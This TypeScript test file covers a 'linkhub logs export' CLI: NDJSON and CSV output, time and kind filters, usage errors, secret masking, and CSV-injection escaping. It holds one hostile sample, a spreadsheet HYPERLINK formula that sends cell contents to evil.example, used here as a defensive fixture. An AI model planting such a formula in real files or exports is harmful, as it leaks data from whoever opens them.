// `linkhub logs export` as a process, on the store under test: calls through the proxy and the
// audit events of a link, exported as NDJSON and CSV (parsed back: the same rows), oldest first,
// --kind, --since / --until, --output, usage errors, and no secret in any output (a Stripe key sent
// in a call's query string included).
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { spawn } from 'node:child_process';
import { projectRoot } from '../src/paths.js';
import { type CliRun, cli as runCli } from './helpers/cli.js';
import { callApi, type ChildStore, childStore, killAllLinkhubProcesses, linkAccount, startLinkhubProcess } from './helpers/process.js';
import { startStripeStandin, type StripeStandin } from './stripe-standin/index.js';

let stripe: StripeStandin;
let store: ChildStore;
let env: Record<string, string>;
const secrets: string[] = [];
const CALLS = 5;
const FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Click")';
/** What a spreadsheet would run as a formula is written with a leading quote in CSV (OWASP's CSV injection advice). */
const inCsv = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

/** RFC 4180: quoted fields with doubled quotes, commas and line breaks inside. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (ch === '"' && field === '') {
      for (i++; i < text.length && !(text[i] === '"' && text[i + 1] !== '"'); i++) field += text[i] === '"' ? text[++i] : text[i];
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
    } else field += ch;
  }
  return rows;
}

const lines = (r: CliRun) =>
  r.stdout
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, unknown>);
const time = (row: Record<string, unknown>) => Date.parse(String(row.event_datetime ?? row.at));

async function exportRun(...args: string[]): Promise<CliRun> {
  const r = await runCli(env, 'logs', 'export', ...args);
  for (const s of secrets) assert.ok(!(r.stdout + r.stderr).includes(s), 'no secret in the output');
  return r;
}

before(async () => {
  stripe = await startStripeStandin();
  store = await childStore();
  env = { ...store.env, LINKHUB_STRIPE_API_BASE: stripe.url };
  const server = await startLinkhubProcess(env);
  const apiKey = /\blh_[A-Za-z0-9]{20,}\b/.exec(server.stdout())![0];
  secrets.push(apiKey, stripe.keys.secretTest, ...(store.env.LINKHUB_MASTER_KEY ? [store.env.LINKHUB_MASTER_KEY] : []));
  const account = await linkAccount(server.url, apiKey, stripe.keys.secretTest, { origin_owner_id: 'export-1', origin_owner_name: 'Export' });
  for (let i = 0; i < CALLS; i++) {
    // the last call carries the key in its query string: stored masked, exported masked
    const path = i === CALLS - 1 ? `/v1/customers?limit=1&key=${stripe.keys.secretTest}` : `/v1/customers?limit=${i + 1}`;
    const r = await callApi(server.url, 'POST', '/unified/proxy', {
      key: apiKey,
      headers: { 'x-account-id': account.id },
      // the first carries a spreadsheet formula where a caller's text is kept (its idempotency key)
      body: { url: 'https://api.stripe.com', path, ...(i === 0 ? { headers: { 'Idempotency-Key': FORMULA } } : {}) },
    });
    assert.equal(r.status, 200, r.text);
  }
  await server.stop(); // the call log is flushed; the embedded store is free for the command
});
after(async () => {
  await killAllLinkhubProcesses();
  await store?.drop();
  await stripe?.close();
});

describe('linkhub logs export', () => {
  test('into a reader that has gone (`| head`): exit 0, no error', async () => {
    const child = spawn(process.execPath, ['--import', 'tsx', join(projectRoot, 'src', 'cli.ts'), 'logs', 'export', '--since', '1h', '--format', 'ndjson'], {
      cwd: projectRoot,
      env: { PATH: process.env.PATH, HOME: process.env.HOME, LINKHUB_LOG_LEVEL: 'warn', ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    child.stdout.destroy(); // the reader closes its end before the first line is written
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
    assert.equal(code, 0, stderr);
    assert.doesNotMatch(stderr, /EPIPE|Error/);
  });

  test('NDJSON: requests, audit and all, oldest first, with kind', async () => {
    const requests = lines(await exportRun('--since', '1h', '--kind', 'requests', '--format', 'ndjson'));
    assert.equal(requests.length, CALLS);
    assert.ok(requests.every((r) => r.kind === 'request' && r.service === 'proxy' && r.http_method === 'GET'));
    // the URL actually called: LINKHUB_STRIPE_API_BASE (the stand-in), as the logs API says
    assert.ok(
      requests.every((r) => String(r.url).startsWith(`${stripe.url}/v1/`)),
      requests.map((r) => r.url).join(' '),
    );
    // Stripe refuses the unknown parameter `key` of the last call
    assert.deepEqual(
      requests.map((r) => r.status),
      [200, 200, 200, 200, 400],
    );
    assert.deepEqual(
      requests.map((r) => r.id),
      requests.map((r) => r.id).sort((a, b) => Number(a) - Number(b)),
    );
    assert.ok(
      requests.every((r, i) => i === 0 || time(requests[i - 1]) <= time(r)),
      'oldest first',
    );

    const audit = lines(await exportRun('--since', '1h', '--kind', 'audit', '--format', 'ndjson'));
    assert.ok(audit.every((r) => r.kind === 'audit'));
    assert.equal(audit.filter((r) => r.action === 'call.proxy').length, CALLS, 'each call is in the audit trail');
    assert.ok(audit.some((r) => r.action === 'link.create'));
    assert.ok(
      audit.every((r, i) => i === 0 || time(audit[i - 1]) <= time(r)),
      'oldest first',
    );

    const all = lines(await exportRun('--since', '1h', '--format', 'ndjson'));
    assert.equal(all.filter((r) => r.kind === 'request').length, CALLS);
    assert.deepEqual(
      all.filter((r) => r.kind === 'audit').map((r) => r.action),
      audit.filter((r) => !String(r.action).startsWith('call.')).map((r) => r.action),
      'all: the calls once, and the audit events that are not calls',
    );
  });

  test('CSV (--output): a header row and the same rows as NDJSON', async () => {
    const ndjson = lines(await exportRun('--since', '1h', '--format', 'ndjson'));
    const file = join(mkdtempSync(join(tmpdir(), 'linkhub-export-')), 'logs.csv');
    const r = await exportRun('--since', '1h', '--format', 'csv', '--output', file);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, '');
    assert.equal(statSync(file).mode & 0o777, 0o600);
    const text = readFileSync(file, 'utf8');
    for (const s of secrets) assert.ok(!text.includes(s), 'no secret in the file');
    const [header, ...rows] = parseCsv(text);
    assert.equal(header[0], 'kind');
    assert.equal(rows.length, ndjson.length);
    rows.forEach((row, i) => {
      for (const [k, v] of Object.entries(ndjson[i])) assert.equal(row[header.indexOf(k)], v === null ? '' : inCsv(String(v)), `row ${i} ${k}`);
    });
    assert.ok(
      ndjson.some((r) => r.idempotency_key === FORMULA),
      'the formula is kept as sent in NDJSON',
    );
    assert.ok(
      rows.every((row) => row.every((cell) => !/^[=+@]/.test(cell))),
      'no cell a spreadsheet runs',
    );
    const masked = rows.find((row) => row[header.indexOf('url')].includes('key='));
    assert.ok(masked, 'the call with the key in its query string is exported, masked');
  });

  test('--since / --until select by time; bad values are usage errors', async () => {
    const requests = lines(await exportRun('--since', '1h', '--kind', 'requests', '--format', 'ndjson'));
    const third = String(requests[2].event_datetime);
    const from = lines(await exportRun('--since', third, '--kind', 'requests', '--format', 'ndjson'));
    assert.deepEqual(
      from.map((r) => r.id),
      requests.filter((r) => time(r) >= Date.parse(third)).map((r) => r.id),
    );
    const upTo = lines(await exportRun('--since', '7d', '--until', third, '--kind', 'requests', '--format', 'ndjson'));
    assert.deepEqual(
      upTo.map((r) => r.id),
      requests.filter((r) => time(r) <= Date.parse(third)).map((r) => r.id),
    );
    assert.equal(lines(await exportRun('--since', '2999-01-01T00:00:00Z', '--format', 'ndjson')).length, 0);
    const empty = await exportRun('--since', '2999-01-01T00:00:00Z', '--format', 'csv');
    assert.equal(empty.stdout.split('\n')[0].split(',')[0], 'kind', 'a header row even when nothing matches');

    for (const args of [
      ['--since', 'yesterday', '--format', 'csv'],
      ['--since', '1h', '--until', 'soon', '--format', 'csv'],
      ['--since', '1h', '--format', 'xml'],
      ['--since', '1h', '--kind', 'everything', '--format', 'csv'],
      ['--format', 'csv'],
      ['--since', '1h', '--until', '2d', '--format', 'csv'],
    ]) {
      const r = await exportRun(...args);
      assert.equal(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
      assert.match(r.stderr, /^linkhub: /);
    }
  });
});
